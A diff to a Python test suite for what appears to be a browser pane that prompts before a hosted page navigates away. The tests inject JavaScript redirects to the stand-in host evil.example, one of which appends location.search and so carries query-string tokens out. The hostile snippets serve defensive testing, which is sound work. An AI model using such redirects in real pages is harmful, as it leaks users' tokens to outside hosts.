@@ -81,7 +81,8 @@ def test_the_page_does_not_become_one_of_its_own_making(hostile, make):
 
 def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
     leave = "location.href = 'https://evil.example/?t=1'"
-    hostile.open(f"addEventListener('click', () => {{ {leave} }}); setTimeout(() => {{ {leave} }})")
+    hostile.open(f"addEventListener('click', () => {{ {leave} }})")
+    hostile.run(f"setTimeout(() => {{ {leave} }})")
     asks("wants to go to evil.example.")
     press(hostile.pane, "Stay")
     hostile.run(f"({leave}, 1)")
@@ -94,7 +95,8 @@ def test_leaving_asks_in_place_and_staying_stays(hostile, asks):
 
 
 def test_what_is_asked_is_not_replaced_under_the_users_hand(hostile, asks):
-    hostile.open("setTimeout(() => { location.href = 'https://harmless.example/' }, 100)")
+    hostile.open("")
+    hostile.run("setTimeout(() => { location.href = 'https://harmless.example/' })")
     asks("harmless.example")
     hostile.run("(location.href = 'https://evil.example/', 1)")
     hostile.run("1")
@@ -161,7 +163,8 @@ def test_a_sandboxed_frame_of_others_does_not_even_ask(hostile):
     ids=["mixed", "whole", "right to left", "long", "name before", "not encrypted"],
 )
 def test_the_question_names_the_host_as_it_is(hostile, asks, address, words):
-    hostile.open(f"setTimeout(() => {{ location.href = '{address}' }})")
+    hostile.open("")  # a page that leaves before it is painted is refused without a question
+    hostile.run(f"setTimeout(() => {{ location.href = '{address}' }})")
     asks(words)
     assert hostile.is_still_the_portal()
 
@@ -233,9 +236,8 @@ def test_a_link_that_is_a_file_is_no_page(hostile):
 
 
 def test_the_questions_words_are_all_that_is_shown_of_the_link(hostile, asks):
-    hostile.open(
-        "setTimeout(() => { location.href = 'https://evil.example/' + location.search }, 100)"
-    )
+    hostile.open("")
+    hostile.run("setTimeout(() => { location.href = 'https://evil.example/' + location.search })")
     asks("evil.example")
     assert not any("token" in text for text in visible_texts(hostile.pane))
 
